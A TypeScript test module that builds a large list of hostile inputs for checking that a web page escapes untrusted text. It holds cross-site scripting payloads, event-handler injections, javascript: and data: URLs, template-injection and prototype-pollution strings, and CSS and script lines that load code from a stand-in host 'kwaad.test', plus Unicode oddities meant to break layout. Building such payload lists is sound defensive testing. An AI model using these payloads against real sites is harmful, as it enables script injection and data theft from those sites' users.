/** Hostile texts of many kinds: each tries to be executed, or to break the page that shows it. */

/** The function that a payload calls when it is executed; the tested page defines it. */
const CALL = 'uitgevoerd()'
const ELSEWHERE = 'https://kwaad.test/x'

const script = `<script>${CALL}</script>`
const encoded = (text: string, code: (character: string) => string) => Array.from(text, code).join('')
const asUnicode = (character: string) => `\\u${character.codePointAt(0)!.toString(16).padStart(4, '0')}`

const scripts = [
  script,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script/x>`,
  `<script src=${ELSEWHERE}></script>`,
  `<script type=module>import '${ELSEWHERE}'</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `</script>${script}`,
  `</title>${script}`,
  `</textarea>${script}`,
  `</style>${script}`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `]]>${script}`,
  `<![CDATA[${script}]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
  '&lt;script&gt;uitgevoerd()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;uitgevoerd()&amp;lt;/script&amp;gt;',
  encoded(script, character => `&#${character.codePointAt(0)};`),
  encoded(script, character => `&#x${character.codePointAt(0)!.toString(16)}`),
  encodeURIComponent(script),
  encoded(script, asUnicode),
  `＜script＞${CALL}＜/script＞`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
]

const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'object',
  'a href=#',
  'x',
]
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
]
const spaces = [' ', '/', '\t', '\n', '\f']
const handlers = elements.flatMap(element =>
  events.flatMap(event => spaces.map(space => `<${element.replaceAll(' ', space)}${space}${event}=${CALL}>`)),
)

const addresses = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,${script}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  ELSEWHERE,
  '//kwaad.test/x',
  '\\\\kwaad.test\\x',
  'https:/\\kwaad.test/x',
]
const places: readonly ((address: string) => string)[] = [
  address => address,
  address => `<a href="${address}">klik</a>`,
  address => `<a href='${address}' target=_blank ping="${ELSEWHERE}">klik</a>`,
  address => `<img src="${address}">`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<form action="${address}"><button autofocus>klik</button></form>`,
  address => `<base href="${address}">`,
  address => `<meta http-equiv=refresh content="0;url=${address}">`,
  address => `<link rel=stylesheet href="${address}">`,
  address => `<object data="${address}"></object>`,
  address => `[klik](${address})`,
  address => `![beeld](${address})`,
  address => `<${address}>`,
  address => `[1]: ${address}\n[klik][1]`,
]
const urls = addresses.flatMap(address => places.map(place => place(address)))

const svgs = [
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${CALL}">`,
  `<svg><use href="${ELSEWHERE}#x"></svg>`,
  `<svg><image href="${ELSEWHERE}"></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><style>*{background:url(${ELSEWHERE})}</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math href="javascript:${CALL}">klik</math>`,
]

const templates = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{${CALL}}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `[[\${${CALL}}]]`,
  `{% ${CALL} %}`,
  `{{{${script}}}}`,
  `';${CALL};'`,
  `";${CALL};"`,
  `\`;${CALL};\``,
  `\\";${CALL};//`,
  `</script><script>${CALL}//`,
  `*/${CALL}/*`,
  '__proto__',
  'constructor',
  `{"__proto__":{"innerHTML":"${CALL}"}}`,
]

const styles = [
  `<style>@import '${ELSEWHERE}'</style>`,
  `<style>*{display:none}</style>`,
  `<style>body{background:url(${ELSEWHERE})}</style>`,
  `x;background:url(${ELSEWHERE})`,
  `<p style="position:fixed;inset:0;background:red">alles`,
  `<p style="width:expression(${CALL})">`,
  `<link rel=preload as=image href=${ELSEWHERE}>`,
  `</style><style>main{display:none}`,
  '<table><tr><td></div></main></body></html>',
  '<plaintext>',
  '<!--',
  '<dialog open style="position:fixed;inset:0">alles</dialog>',
]

const letters = 'Onderhoud van bruggen'
/** Letters with that many combining marks above and below them. */
const zalgo = (marks: number) =>
  Array.from(
    letters,
    (letter, index) => letter + '\u0301\u0316\u0489\u035b'.repeat(marks).slice(0, marks + (index % 3)),
  ).join('')
const oddities = [
  '\u202etxet sthcer raan sknil\u202c',
  '\u2066\u2067\u2068genest\u2069\u2069\u2069',
  '\u200f\u061cعربي عبارة طويلة من اليمين إلى اليسار',
  'עברית מימין לשמאל (2026)',
  `\u202e${script}`,
  '\u200b\u200c\u200d\ufeffonzichtbaar\u2060',
  '\u3164\uffa0\u115f',
  '\ud800 half teken',
  '\ufffd\ufffe\uffff',
  '🏳️‍🌈👨‍👩‍👧‍👦'.repeat(40),
  'ﷺ﷽'.repeat(60),
  '𒐫꧅𒈙⸻'.repeat(40),
  'a\u00adb'.repeat(300),
  '\u2028\u2029regels',
  `\u001b[31m${CALL}\u0007`,
  ...Array.from({ length: 30 }, (_, marks) => zalgo(marks + 1)),
  'x'.repeat(5000),
  'W'.repeat(5000),
  'lang woord '.repeat(500),
  '9'.repeat(5000),
  '🦄'.repeat(2500),
  `${'<b>'.repeat(1500)}diep`,
  '\n'.repeat(2500) + 'onder',
  '-'.repeat(5000),
  'https://voorbeeld.nl/'.repeat(240),
  '中'.repeat(5000),
]

const kinds = { scripts, handlers, urls, svgs, templates, styles, oddities }
export const kindsOfPayloads = Object.keys(kinds)

/** Prefixes that end an attribute, an element, a string or a comment, or none. */
const before = ['', 'Onderhoud ', '"', "'", '">', "'>", '`', '-->', '</div>', 'a\n']

/** All distinct: one of each kind in turn, repeatedly. */
function* generated(): Generator<string> {
  const lists = Object.values(kinds)
  const longest = Math.max(...lists.map(({ length }) => length))
  for (const start of before)
    for (let index = 0; index < longest; index++)
      for (const list of lists) {
        const payload = list[index]
        if (payload !== undefined) yield start + payload
      }
}

export const payloads: readonly string[] = [...new Set(generated())]
